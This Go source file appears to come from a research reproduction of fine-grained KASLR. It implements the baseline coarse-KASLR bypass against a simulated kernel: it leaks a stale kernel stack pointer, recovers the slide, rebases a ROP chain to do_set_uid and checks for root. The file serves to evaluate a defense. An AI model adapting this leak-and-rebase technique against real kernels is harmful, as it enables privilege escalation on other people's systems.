package attack

import (
	"encoding/binary"
	"fmt"

	"repro/internal/cpu"
	"repro/internal/isa"
	"repro/internal/kernel"
)

// CoarseKASLRBypass mounts the classic attack that motivates fine-grained
// KASLR (§1–§2): base randomization slides the whole image by one secret
// delta, so leaking a *single* code pointer reveals every address. The
// attacker primes the target and a reference kernel (their own copy, built
// from the same distribution, different unknown slide) with the same
// syscall sequence, leaks the same stale stack slot from both, computes
// slide = leaked_target − leaked_ref, rebases the precomputed ROP chain,
// and fires it. Against coarse KASLR alone this succeeds; against
// fine-grained KASLR the rebased addresses still point at shuffled code.
func CoarseKASLRBypass(target, ref *kernel.Kernel) Result {
	res := Result{Name: "kaslr-bypass", Stage: "pointer-leak"}

	tPtr, tOff, ok := leakAnchor(target)
	if !ok {
		res.Detail = "no code pointer leaked from the target"
		return res
	}
	rPtr, rOff, ok := leakAnchor(ref)
	if !ok || tOff != rOff {
		res.Detail = fmt.Sprintf("anchor slots diverge (t=%d r=%d)", tOff, rOff)
		return res
	}
	slide := tPtr - rPtr

	res.Stage = "chain-rebase"
	pop, ok := FirstPopRet(ref.Img.Text, ref.Sym("_text"), isa.RDI)
	if !ok {
		res.Detail = "no pop %rdi gadget in the reference image"
		return res
	}
	chain := []uint64{
		pop.Addr + slide,
		0,
		ref.Sym("do_set_uid") + slide,
		cpu.StopMagic,
	}

	res.Stage = "exploitation"
	a := &Attacker{K: target}
	a.SmashChain(chain, 64)
	if a.UID() == 0 {
		res.Success = true
		res.Detail = fmt.Sprintf("uid=0 with slide %#x recovered from one leaked pointer", slide)
		return res
	}
	res.Detail = fmt.Sprintf("rebased chain (slide %#x) landed nowhere useful", slide)
	return res
}

// leakAnchor primes the kernel stack and leaks the first stale slot holding
// a kernel-text-looking pointer, returning the pointer and its slot index.
func leakAnchor(k *kernel.Kernel) (ptr uint64, slot int, ok bool) {
	if err := k.WriteUser(0, append([]byte("testfile"), 0)); err != nil {
		return 0, 0, false
	}
	k.Syscall(kernel.SysOpen, kernel.UserBuf)
	a := &Attacker{K: k}
	top := k.CPU.KernelStackTop
	const words = 64
	raw, _ := a.LeakRange(top-words*8, words*8)
	for off := 0; off+8 <= len(raw); off += 8 {
		v := binary.LittleEndian.Uint64(raw[off:])
		if v >= 0xffffffff80000000 && v < 0xffffffffa0000000 && v != cpu.StopMagic {
			return v, off / 8, true
		}
	}
	return 0, 0, false
}
